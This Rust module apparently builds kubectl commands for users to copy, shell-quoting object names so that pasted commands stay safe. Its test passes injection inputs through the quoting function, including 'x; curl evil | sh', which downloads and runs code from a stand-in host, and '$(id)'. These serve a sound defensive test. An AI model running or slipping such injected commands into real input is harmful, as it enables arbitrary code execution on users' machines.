//! Commands for people to copy.
//!
//! What comes from objects is quoted where a shell would do more with it than hand it on.

use std::borrow::Cow;

use capstan_api::contract::crd_name;
use serde_json::{Value, json};

use super::snapshot::ExplainSnapshot;
use crate::fields::{group, kind, name, text};

/// How kubectl addresses a kind: by plural and group, because several groups may have a kind of the same name.
pub(crate) fn resource(snapshot: &ExplainSnapshot, of_group: &str, of_kind: &str) -> String {
    let address = match snapshot.workload.crd(of_group, of_kind) {
        Some(crd) => format!("{}.{}", crd.plural, crd.group),
        None if of_group.is_empty() => of_kind.to_lowercase(),
        None => crd_name(of_group, of_kind),
    };
    word(&address).into_owned()
}

/// One word for a shell.
pub(crate) fn word(text: &str) -> Cow<'_, str> {
    let is_plain = |it: char| it.is_ascii_alphanumeric() || "-_./:@%+=,".contains(it);
    if !text.is_empty() && text.chars().all(is_plain) {
        return Cow::Borrowed(text);
    }
    Cow::Owned(format!("'{}'", text.replace('\'', r"'\''")))
}

fn address(snapshot: &ExplainSnapshot, object: &Value) -> String {
    let namespace = text(object, "/metadata/namespace").map(|it| format!(" -n {it}")).unwrap_or_default();
    format!("{} {}{namespace}", resource(snapshot, group(object), kind(object)), word(name(object)))
}

/// Shows an object and its events.
pub(crate) fn describe(snapshot: &ExplainSnapshot, object: &Value) -> String {
    format!("kubectl describe {}", address(snapshot, object))
}

/// Shows which objects of a kind there are.
pub(crate) fn list(snapshot: &ExplainSnapshot, of_group: &str, of_kind: &str, namespace: &str) -> String {
    format!("kubectl get {} -n {namespace}", resource(snapshot, of_group, of_kind))
}

/// Changes an object.
pub(crate) fn patch(snapshot: &ExplainSnapshot, object: &Value, patch: &Value) -> String {
    format!("kubectl patch {} --type merge -p '{patch}'", address(snapshot, object))
}

/// Deletes an object.
pub(crate) fn delete(snapshot: &ExplainSnapshot, object: &Value) -> String {
    format!("kubectl delete {}", address(snapshot, object))
}

/// Removes an annotation from an object.
pub(crate) fn unannotate(snapshot: &ExplainSnapshot, object: &Value, annotation: &str) -> String {
    format!("kubectl annotate {} {annotation}-", address(snapshot, object))
}

/// Removes one finalizer and keeps the others.
pub(crate) fn unfinalize(snapshot: &ExplainSnapshot, object: &Value, finalizer: &str) -> String {
    let rest: Vec<_> = crate::fields::finalizers(object).into_iter().filter(|it| *it != finalizer).collect();
    patch(snapshot, object, &json!({"metadata": {"finalizers": rest}}))
}

/// Shows the last log lines of a controller.
pub(crate) fn logs(namespace: &str, deployment: &str) -> String {
    format!("kubectl logs -n {namespace} deployment/{deployment} --tail 100")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_shell_would_act_on_is_quoted() {
        for (text, expected) in [
            ("clusters.cluster.x-k8s.io", "clusters.cluster.x-k8s.io"),
            ("x; curl evil | sh", "'x; curl evil | sh'"),
            ("$(id)", "'$(id)'"),
            ("it's", r"'it'\''s'"),
            ("", "''"),
        ] {
            assert_eq!(word(text), expected);
        }
    }
}
